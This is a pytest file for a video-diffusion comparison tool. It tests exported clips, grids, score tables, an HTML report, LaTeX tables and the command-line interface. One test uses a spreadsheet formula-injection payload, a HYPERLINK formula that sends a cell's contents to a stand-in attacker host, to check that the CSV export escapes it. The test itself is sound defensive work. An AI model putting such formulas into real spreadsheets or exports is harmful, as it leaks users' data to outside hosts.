"""A comparison's files open, and hold what they say: read back, counted, and compared with the clips."""

from __future__ import annotations

import base64
import csv
import io
import json
import math
import re
import xml.etree.ElementTree as ET
from dataclasses import replace
from pathlib import Path
from zipfile import ZipFile

import numpy as np
import pytest
from paper import PAPER_BRIDGE
from PIL import Image
from sheets import cut_up

from bivdiff.catalog.requests import default_request
from bivdiff.cli import main as cli
from bivdiff.compare import export as exporting
from bivdiff.compare import page as paging
from bivdiff.compare import player
from bivdiff.compare import sweep as sweeping
from bivdiff.compare.choice import FigureChoice
from bivdiff.compare.citation import BIBTEX
from bivdiff.compare.export import export
from bivdiff.compare.figures import SHEET_WIDTH, contact_sheet, labelled_grid, sheet_of_rows, trade_off
from bivdiff.compare.page import player_data, write_page
from bivdiff.compare.paper import FILES as PAPER_FILES
from bivdiff.compare.paper import Material, PaperRow, latex_table, material_of, write_paper
from bivdiff.compare.scores import RULE, Recommendation
from bivdiff.compare.sweep import Cell, SweepResult, paper_cell
from bivdiff.compare.tables import scores_csv
from bivdiff.errors import BIVDiffError, InputError
from bivdiff.media import carried
from bivdiff.media.film import GAP, PAPER
from bivdiff.media.reading import probe, read_clip
from bivdiff.media.slices import busiest_part, time_slice
from bivdiff.media.vector import INK
from bivdiff.toybox.clips import load_index

ROOT = Path(__file__).resolve().parent.parent
COUNT, HEIGHT, WIDTH, FPS = 3, 64, 96, 6.0
END = r"\\"  # of a line in LaTeX
RATIOS = (0.0, 0.25, 1.0)


def clip(level):
    """A clip of one grey, a little brighter from frame to frame."""
    return np.stack([np.full((HEIGHT, WIDTH, 3), level + 10 * number, np.uint8) for number in range(COUNT)])


def made(axes, levels, recommended=1):
    """A finished comparison whose clips are greys."""
    request = default_request(
        "inpaint",
        "toybox",
        clip(50),
        "a <b>red</b> cube",
        masks=np.full((COUNT, HEIGHT, WIDTH), 255, np.uint8),
        **PAPER_BRIDGE,
    )
    names = list(axes)
    values = [dict(zip(names, pair, strict=True)) for pair in levels]
    cells = []
    for index, chosen in enumerate(values):
        label = ", ".join(f"{name} {value}" for name, value in chosen.items())
        scores = {
            "temporal_flicker": 2.0 - index / 4, "warp_error": 1.0, "sharpness": 1.0, "framewise_psnr": 30.0 + index,
            "framewise_ssim": 0.9, "known_psnr": math.nan,
        }  # fmt: skip
        own, baseline = replace(request, **chosen), {**scores, "temporal_flicker": 4.0}
        cells.append(
            Cell(index, chosen, label, own, clip(40 * index), clip(50), scores, baseline, {"total": 1.5}, {},
                 ("framewise",))
        )  # fmt: skip
    return SweepResult(request, axes, tuple(cells), Recommendation(recommended, "Because <it> is."), 4.5, 10)


@pytest.fixture(scope="module")
def result():
    return made({"mixing_ratio": RATIOS}, [(ratio,) for ratio in RATIOS])


@pytest.fixture(scope="module")
def grid():
    pairs = [(ratio, rule) for ratio in (0.1, 1.0) for rule in ("slerp", "linear", "variance_preserving")]
    return made({"mixing_ratio": (0.1, 1.0), "mixing_rule": ("slerp", "linear", "variance_preserving")}, pairs)


@pytest.fixture(scope="module")
def paths(result, tmp_path_factory):
    return export(tmp_path_factory.mktemp("compare") / "new" / "folder", result, FPS)


def test_all_is_written_and_the_zip_holds_all_else(paths):
    assert set(paths) == {
        "grid", "gif", "contact_sheet", "scores_csv", "scores_json", "plot", "plot_pdf", "framewise", "cell 1",
        "cell 2", "cell 3", "page", "zip", *PAPER_FILES,
    }  # fmt: skip
    folder = paths["zip"].parent
    with ZipFile(paths["zip"]) as archive:
        assert archive.testzip() is None
        assert sorted(archive.namelist()) == sorted(
            path.relative_to(folder).as_posix() for name, path in paths.items() if name != "zip"
        )
        assert archive.read("scores.csv") == paths["scores_csv"].read_bytes()
    assert paths["cell 2"].name == "02-ratio-0.25.mp4"


def test_the_source_is_packed_once_however_many_cells_carry_it(result, tmp_path, monkeypatch):
    packed = []

    def counted(request):
        packed.append(request)
        return carried.pack(request)

    monkeypatch.setattr(exporting, "pack", counted)
    paths = export(tmp_path, result, FPS)
    assert len(packed) == 1
    for cell in result.cells:
        kept = carried.read(paths[f"cell {cell.index + 1}"])
        assert kept.settings["mixing_ratio"] == cell.request.mixing_ratio
        assert np.array_equal(kept.request.frames, result.request.frames)


def test_every_cell_plays_as_it_was(paths, result):
    for cell in result.cells:
        read = read_clip(paths[f"cell {cell.index + 1}"], num_frames=COUNT)
        assert read.fps == FPS
        assert np.abs(read.frames.astype(int) - cell.frames).max() <= 3  # H.264 is not lossless
    assert np.abs(read_clip(paths["framewise"], num_frames=COUNT).frames.astype(int) - clip(50)).max() <= 3


def test_the_grid_shows_each_clip_at_its_place(paths, result):
    frames = labelled_grid(result)
    for path in (paths["grid"], paths["gif"]):
        info = probe(path)
        assert (info.num_frames, round(info.fps)) == (COUNT, FPS)
        assert abs(info.height - frames.shape[1]) <= 1
        read = read_clip(path, num_frames=COUNT).frames
        clips = [clip(50), *(cell.frames for cell in result.cells)]  # the frames come first
        for place, shown in enumerate(clips):
            row, column = divmod(place, 2)
            top, left = 4 + row * (HEIGHT + 16 + 4) + 16, 4 + column * (WIDTH + 4)
            inner = (slice(None), slice(top + 4, top + HEIGHT - 4), slice(left + 4, left + WIDTH - 4))
            assert np.array_equal(frames[inner], shown[:, 4:-4, 4:-4])
            assert np.abs(read[inner].astype(int) - shown[:, 4:-4, 4:-4]).max() <= 10  # few colours in a GIF


def test_labels_are_legible_whatever_their_length(result):
    frames = labelled_grid(result)
    strips = [frames[0, 4:20, 4 : 4 + WIDTH], frames[0, 4:20, 8 + WIDTH : 8 + 2 * WIDTH]]
    for strip in strips:
        assert 0.02 < (strip.mean(2) < 128).mean() < 0.4
    assert not np.array_equal(*strips)


def test_two_settings_make_rows_and_columns(grid):
    frames = labelled_grid(grid)
    assert frames.shape == (COUNT, 3 * (HEIGHT + 16 + 4) + 4, 3 * (WIDTH + 4) + 4, 3)  # a row of the frames above
    assert paper_cell(grid.request, grid.cells) == 1  # linear, at the ratio of inpainting
    curved = [replace(cell, request=replace(cell.request, mixing_rule="slerp")) for cell in grid.cells]
    assert paper_cell(grid.request, curved) is None  # the paper's ratio, and not its rule
    for change in ({"frame_prior": "video"}, {"start_level": 0.6}):
        assert paper_cell(grid.request, [
            replace(cell, request=replace(cell.request, **change)) for cell in grid.cells
        ]) is None  # fmt: skip


def test_the_contact_sheet_has_a_row_per_clip_and_a_column_per_frame(paths, result):
    sheet = np.asarray(Image.open(paths["contact_sheet"]))
    assert np.array_equal(sheet, contact_sheet(result))
    tall = 2 * HEIGHT + 19 + 4  # twice the clips' size
    assert sheet.shape == (4 * tall, COUNT * (2 * WIDTH + 4) + 4, 3)
    for row, frames in enumerate([clip(50), *(cell.frames for cell in result.cells)]):
        for column in range(COUNT):
            middle = sheet[row * tall + 19 + HEIGHT, 4 + column * (2 * WIDTH + 4) + WIDTH]
            assert np.array_equal(middle, frames[column, 0, 0])


@pytest.mark.parametrize(("shape", "columns", "across"), [
    ((40, 90, 160, 3), 16, 320),  # twice the clip's size
    ((16, 512, 512, 3), 16, 512),  # in its own
    ((40, 720, 1280, 3), 16, 520),
    ((2, 720, 1280, 3), 2, 2560),
])  # fmt: skip
def test_a_contact_sheet_is_bounded_in_frames_and_pixels(shape, columns, across):
    frames = np.zeros(shape, np.uint8)
    frames[-1] = 255
    sheet = sheet_of_rows([("a clip", frames), ("another", frames)])
    assert sheet.shape[1] == columns * (across + 4) + 4 <= SHEET_WIDTH
    assert sheet.shape[0] <= 2 * (across * shape[1] / shape[2] + across / 10 + 5)
    assert (sheet[sheet.shape[0] // 4, -4 - across : -4] == 255).all()  # the last frame is the last


def test_a_prompt_that_a_spreadsheet_would_compute_is_text_in_the_scores(result):
    prompt = '=HYPERLINK("http://evil.example/?"&A1,"a cube")'
    cells = tuple(replace(cell, request=replace(cell.request, prompt=prompt)) for cell in result.cells)
    rows = list(csv.DictReader(io.StringIO(scores_csv(replace(result, cells=cells)))))
    assert {row["prompt"] for row in rows} == {f"'{prompt}"}


def test_the_scores_are_those_of_the_cells(paths, result):
    with paths["scores_csv"].open(newline="") as file:
        rows = list(csv.DictReader(file))
    before, *rows = rows
    assert (before["cell"], before["clip"], before["mixing_ratio"]) == ("0", "Frame by frame", "")
    assert (before["temporal_flicker"], before["recommended"]) == ("4", "0")
    assert [float(row["mixing_ratio"]) for row in rows] == list(RATIOS)
    assert [float(row["framewise_psnr"]) for row in rows] == [30, 31, 32]
    assert {row["known_psnr"] for row in rows} == {""}
    assert [row["recommended"] for row in rows] == ["0", "1", "0"]
    told = json.loads(paths["scores_json"].read_text("utf-8"))
    assert told["rule"] == RULE
    assert told["recommended"]["index"] == 1
    assert told["paper"] is None  # it would take 0.1
    assert told["settings"] == result.request.settings()
    assert [cell["scores"]["temporal_flicker"] for cell in told["cells"]] == [2.0, 1.75, 1.5]
    assert told["cells"][0]["scores"]["known_psnr"] is None
    assert told["fps"] == FPS


def test_the_chart_has_a_curve_for_each_measure_and_its_marks(paths, result, grid):
    (panel,) = trade_off(result)
    assert [curve.title for curve in panel.curves] == ["Warp error", "Sharpness", "Likeness to the frames (SSIM)"]
    assert [mark for mark, _ in panel.marks] == ["recommended"]
    assert (panel.places, panel.ticks) == (list(RATIOS), ["0", "0.25", "1"])
    panels = trade_off(grid)
    assert [each.title for each in panels] == [f"rule {rule}" for rule in ("slerp", "linear", "variance_preserving")]
    assert [mark for each in panels for mark, _ in each.marks].count("paper") == 1
    measured = [
        replace(cell, scores={**cell.scores, "excess_flicker": level},
                framewise_scores={**cell.framewise_scores, "excess_flicker": 4.0})
        for cell, level in zip(result.cells, (4.0, 2.0, 1.0), strict=True)
    ]  # fmt: skip
    (panel,) = trade_off(replace(result, cells=tuple(measured)))
    assert panel.curves[0] == ("Flicker at rest", "less is better", [1.0, 0.5, 0.25])
    texts = written_in(paths["plot"])
    assert {"recommended", "Warp error (less is better)", "ratio", "0.25"} <= texts
    assert "paper" not in texts
    assert paths["plot_pdf"].read_bytes().startswith(b"%PDF")


def written_in(path):
    """The texts of an SVG, which are text and not shapes."""
    root = ET.fromstring(path.read_text("utf-8"))  # noqa: S314 - our own file
    return {"".join(text.itertext()).strip() for text in root.iter("{http://www.w3.org/2000/svg}text")}


def test_the_page_draws_the_chart_in_its_own_colours(paths):
    page = paths["page"].read_text("utf-8")
    chart = page[page.index("<svg") : page.index("</svg>")]
    assert "currentColor" in chart
    assert INK not in chart
    assert "<?xml" not in page


# For a paper


def test_the_figure_has_its_rows_and_words_as_text(paths, result):
    texts = written_in(paths["figure_svg"])
    assert {"frame 1", "frame 2", "frame 3", "enlarged", "source", "frame by frame"} <= texts
    assert {cell.label for cell in result.cells} <= texts
    assert any(text.startswith("column ") for text in texts)
    pdf = paths["figure_pdf"].read_bytes()
    assert pdf.startswith(b"%PDF")
    assert b"/TrueType" in pdf or b"/Type42" in pdf or b"/CIDFontType2" in pdf  # letters that can be searched
    with Image.open(paths["figure_png"]) as picture:
        assert picture.width == pytest.approx(7 * 300, rel=0.35)


def test_frames_rows_zoom_and_column_are_those_that_are_chosen(result, tmp_path):
    material = material_of(result)
    choice = FigureChoice("3, 1", ["frame by frame", "mixing_ratio 1.0"], "10, 20, 16", "33", chart=False)
    paths = write_paper(tmp_path, material, choice)
    texts = written_in(paths["figure_svg"])
    assert texts == {"frame 3", "frame 1", "enlarged", "column 33 over time", "frame by frame", "mixing_ratio 1.0"}
    caption = paths["caption"].read_text("utf-8")
    assert "Frames 3, 1 of 3 (96x64 pixels); the marked part (16x16 pixels at 10, 20) enlarged; column 33" in caption
    assert "Rows: frame by frame, mixing_ratio 1.0." in caption
    for said in (f"seed {result.request.seed}", "frame noise The image model's (the paper)", "image steps 10",
                 "video guidance 1"):  # fmt: skip
        assert said in caption
    for unsaid in ("mixing ratio", "negative prompt", "inversion prompt"):  # compared, empty, as usual
        assert unsaid not in caption
    controlled = replace(
        material, settings={**material.settings, "controls": [{"control_type": "canny", "conditioning_scale": 0.5}]}
    )
    assert ", canny at 0.5, " in write_paper(tmp_path, controlled, choice)["caption"].read_text("utf-8")
    head, *rows = csv.reader(paths["scores"].read_text("utf-8").splitlines())
    assert [row[0] for row in rows] == ["frame by frame", *(cell.label for cell in result.cells)]
    at = head.index("sharpness")
    assert [float(row[at]) for row in rows] == [1.0, *(cell.scores["sharpness"] for cell in result.cells)]
    plain = write_paper(tmp_path, material, FigureChoice(zoom="", column="", chart=False))
    assert {text for text in written_in(plain["figure_svg"]) if "frame" not in text} == {
        "source", *(cell.label for cell in result.cells)
    }  # fmt: skip


@pytest.mark.parametrize(("wrong", "told"), [
    ({"frames": "0"}, "frames 1 to 3"), ({"frames": "one"}, "numbers between commas"),
    ({"rows": ["nobody"]}, "There is no clip 'nobody'. Choose from: source; frame by frame"),
    ({"zoom": "90, 0, 32"}, "no part of a picture of 96x64"), ({"zoom": "a"}, "left, top and side"),
    ({"column": "97"}, "from 1 to 96"),
])  # fmt: skip
def test_what_a_figure_cannot_show_is_told(result, tmp_path, wrong, told):
    with pytest.raises(InputError, match=told):
        write_paper(tmp_path, material_of(result), FigureChoice(**wrong))
    assert list(tmp_path.iterdir()) == []


def test_the_part_that_flickers_most_is_enlarged():
    heat = np.zeros((40, 60))
    heat[20:30, 33:43] = 1
    assert busiest_part(heat, 10) == (33, 20, 10, 10)
    assert busiest_part(heat, 100) == (3, 0, 40, 40)  # no larger than the picture, and all that flickers in it


def test_flicker_is_stripes_in_a_column_over_time():
    frames = clip(0)
    shown = time_slice(frames, 5)
    assert shown.shape == (HEIGHT, WIDTH, 3)
    assert [shown[0, number * WIDTH // COUNT, 0] for number in range(COUNT)] == [0, 10, 20]


def test_the_table_is_latex_with_the_frames_first_and_the_best_bold(paths):
    lines = paths["table"].read_text("utf-8").splitlines()
    body = [line for line in lines if line.endswith(END)][1:]
    assert [line.split(" & ")[0] for line in body] == ["frame by frame", *(rf"mixing\_ratio {r}" for r in RATIOS)]
    assert body[0].endswith(f"1.000 {END}")  # the warp error, where flicker at rest was not measured
    assert lines.index(r"\midrule", 5) == lines.index(body[0]) + 1
    assert "known" not in "".join(lines)
    better = [PaperRow(name, clip(0), {"psnr": score}, bridged=True) for name, score in (("a", 20), ("50% & b", 30))]
    assert r"50\% \& b & \textbf{30.00} " + END in latex_table(Material(better, {}))


def test_the_reference_is_the_readmes():
    assert BIBTEX.strip() in (ROOT / "README.md").read_text("utf-8")


def test_the_cells_of_a_stopped_comparison_stand_in_their_places(grid):
    stopped = replace(grid, cells=grid.cells[:1] + grid.cells[4:5], recommended=Recommendation(4, ""))
    frames = labelled_grid(stopped)
    assert frames.shape == labelled_grid(grid).shape
    tall, wide = HEIGHT + 16 + GAP, WIDTH + GAP
    middle = frames[0, 2 * tall + 60, wide + 40]  # second row of clips, second column: index 4
    assert middle.tolist() == grid.cells[4].frames[0, 0, 0].tolist()
    assert frames[0, tall + 60, wide + 40].tolist() == list(PAPER)  # its index is 1, and it was not made
    known = [sum(map(math.isfinite, curve.values)) for panel in trade_off(stopped) for curve in panel.curves]
    assert known == [1] * 6 + [0] * 3
    assert contact_sheet(stopped).shape[0] < contact_sheet(grid).shape[0]


def test_the_page_holds_every_frame_and_no_markup_of_the_prompt(paths, result):
    page = paths["page"].read_text("utf-8")
    assert "<b>red" not in page
    assert "&lt;it&gt;" in page
    assert RULE.replace("&", "&amp;") in page
    data = json.loads(re.search(r"<script>const clips = (.*?);</script>", page)[1])
    assert (data["fps"], data["numFrames"], data["recommended"], data["paper"]) == (FPS, COUNT, 2, None)
    assert (data["before"], data["tiles"][0]["label"]) == (1, "Frame by frame")
    assert [cell["label"] for cell in data["tiles"][1:]] == [cell.label for cell in result.cells]
    assert "<tr><th>Frame by frame</th>" in page
    for shown, cell in zip(data["tiles"][1:], result.cells, strict=True):
        assert np.array_equal(cut_up(shown["sheet"]), cell.frames)
    assert data["tiles"][0]["rest"]["words"].startswith("not measured")
    assert not re.search(r"""(src|href)=["']https?:""", page)


def test_without_the_player_the_page_shows_videos(result, tmp_path, monkeypatch):
    monkeypatch.setattr(player, "FOLDER", tmp_path / "none")
    clips = [tmp_path / "cells" / f"{number}.mp4" for number in range(3)]
    page = write_page(tmp_path, result.cells, FPS, clips=clips).read_text("utf-8")
    assert re.findall(r'<video src="([^"]*)"', page) == ["cells/0.mp4", "cells/1.mp4", "cells/2.mp4"]
    assert "mountPlayer" not in page


def test_a_setting_that_has_parts_is_written_as_its_parts(result, tmp_path):
    controls = [{"control_type": "canny", "start": 0.0}, {"control_type": "depth", "start": 0.5}]
    page = write_page(tmp_path, result.cells, FPS, settings={"controls": controls}).read_text("utf-8")
    assert "<td>control_type canny, start 0.0; control_type depth, start 0.5</td>" in page


def test_a_large_comparison_travels_with_loss(result, monkeypatch):
    monkeypatch.setattr(paging, "LOSSLESS_PIXELS", 10)
    shown = player_data(result.cells, FPS)
    assert shown["lossy"]
    source = shown["tiles"][0]["sheet"]["src"]
    assert base64.b64decode(source.partition(",")[2])[12:16] == b"VP8 "


def test_a_folder_that_cannot_be_written_is_a_sentence(result, tmp_path):
    (tmp_path / "file").write_text("in the way")
    with pytest.raises(InputError, match="could not be written"):
        export(tmp_path / "file", result, FPS)


# The command


@pytest.fixture
def compare(monkeypatch, toybox_folder, tmp_path, capsys):
    """Runs the command on a short sample clip; returns its status, its report and what it told."""
    monkeypatch.setenv("BIVDIFF_TOYBOX_FOLDER", str(toybox_folder))
    monkeypatch.setenv("BIVDIFF_CACHE_FOLDER", str(tmp_path / "stages"))
    monkeypatch.setenv("BIVDIFF_DEVICE", "cpu")
    steps = ["--num-inference-steps", "1", "--num-inversion-steps", "1", "--num-smoothing-steps", "1", "--seed", "1"]
    steps += ["--frame-prior", "image"]
    source = ["--video", str(load_index()[0].file), "--num-frames", "2", "--prompt", "a red cube"]

    def run(*arguments, source=source):
        status = cli.main(["compare", *source, *steps, "--output", str(tmp_path / "out"), "--json", *arguments])
        out, err = capsys.readouterr()
        return status, json.loads(out) if out else None, err

    return run


def test_the_command_writes_what_it_tells_and_starts_from_what_is_kept(compare, tmp_path):
    status, told, err = compare("--task", "smooth", "--mixing-ratios", "1,0,1")
    assert status == 0
    assert [cell["values"]["mixing_ratio"] for cell in told["cells"]] == [1.0, 0.0]
    assert {name for name in told["paths"] if name.startswith("cell")} == {"cell 1", "cell 2"}
    assert (tmp_path / "out" / "index.html").is_file()
    assert probe(told["paths"]["grid"]).num_frames == 2
    assert told["recommended"]["index"] in {0, 1}
    assert 5 < told["cells"][0]["scores"]["psnr"] < 60  # the world knows the truth of a sample
    assert "ratio 0: " in err
    assert "reused" not in err
    assert not {"\r", "\x1b"} & set(err)
    status, again, err = compare(
        "--task", "smooth", "--vary", "mixing-rule=linear,slerp", "--mixing-ratio", "0.5", "--force"
    )
    assert status == 0
    assert [cell["values"] for cell in again["cells"]] == [{"mixing_rule": "linear"}, {"mixing_rule": "slerp"}]
    assert again["cells"][0]["reused"] == ["image inversion", "video inversion"]
    assert "reused: image inversion, video inversion" in err


@pytest.mark.parametrize(
    ("stop", "told", "exit_status"),
    [(KeyboardInterrupt, "Stopped.", 130), (lambda: BIVDiffError("The numbers ran over."), "ran over.", 1)],
)
def test_what_was_ready_when_it_was_stopped_is_written(compare, tmp_path, monkeypatch, stop, told, exit_status):
    whole, made = sweeping.smooth_clips, []

    def stopped_at_the_third(*given):
        if len(made) == 2:
            raise stop()
        made.append(1)
        return (yield from whole(*given))

    monkeypatch.setattr(sweeping, "smooth_clips", stopped_at_the_third)
    status, _, err = compare("--task", "smooth", "--mixing-ratios", "0,0.5,1")
    assert status == exit_status
    assert f"{told} The 2 of 3 clips that were ready are in '{tmp_path / 'out'}'." in err
    written = json.loads((tmp_path / "out" / "scores.json").read_text())
    assert [cell["values"]["mixing_ratio"] for cell in written["cells"]] == [0.0, 1.0]
    assert [path.name for path in sorted((tmp_path / "out" / "cells").glob("0*.mp4"))] == [
        "00-your-frames.mp4", "01-ratio-0.mp4", "03-ratio-1.mp4"
    ]  # fmt: skip
    assert (tmp_path / "out" / "compare.zip").is_file()


def test_a_folder_that_cannot_be_written_is_told_before_anything_runs(compare, tmp_path, monkeypatch):
    (tmp_path / "out").write_text("in the way")
    monkeypatch.setattr(sweeping, "entering", lambda *_: pytest.fail("a model was loaded"))
    status, _, err = compare("--task", "smooth")
    assert status == 1
    assert "could not be made" in err


def test_values_of_one_setting_may_be_given_in_parts(compare):
    status, told, _ = compare("--task", "smooth", "--vary", "start_level=0.5", "--vary", "start_level=1")
    assert status == 0
    assert [cell["values"]["start_level"] for cell in told["cells"]] == [0.5, 1.0]


def test_a_setting_that_the_image_model_does_not_read_is_not_compared(compare):
    status, _, err = compare("--task", "smooth", "--vary", "frame_attention=none,first")
    assert status == 1
    assert "'frame_attention' changes nothing here: None: the frames are given does not read it." in err


@pytest.mark.parametrize("flags", [("--prompt", "a cat"), ("--size", "64x64"), ("--fit-memory",)])
def test_a_scene_takes_nothing_that_would_change_its_truth(compare, flags):
    status, _, err = compare("--task", "smooth", *flags, source=["--scene", "2"])
    assert status == 1
    assert f"A scene has its own clip, prompt and masks, and {flags[0]} would change them." in err


def test_a_scene_of_the_evaluation_is_scored_against_its_truth(compare):
    status, told, _ = compare("--task", "smooth", "--mixing-ratios", "0", source=["--scene", "2"])
    assert status == 0
    assert {"psnr", "ssim", "background_flicker"} <= set(told["cells"][0]["scores"])


@pytest.mark.parametrize(
    ("arguments", "sentence"),
    [
        (["--vary", "seed"], "'seed' is not a valid value for --vary"),
        (["--vary", "seed=a"], "'a' is not a valid value for seed"),
        (["--vary", "prompt=a"], "cannot be compared"),
        (["--mixing-ratios", "0,2"], "from 0 to 1"),
        (["--vary", "seed=1", "--vary", "mixing_rule=slerp", "--mixing-ratios", "1"], "One or two"),
    ],
)
def test_what_cannot_be_compared_is_a_sentence(compare, arguments, sentence):
    status, _, err = compare("--task", "smooth", *arguments)
    assert status == 1
    assert sentence in err
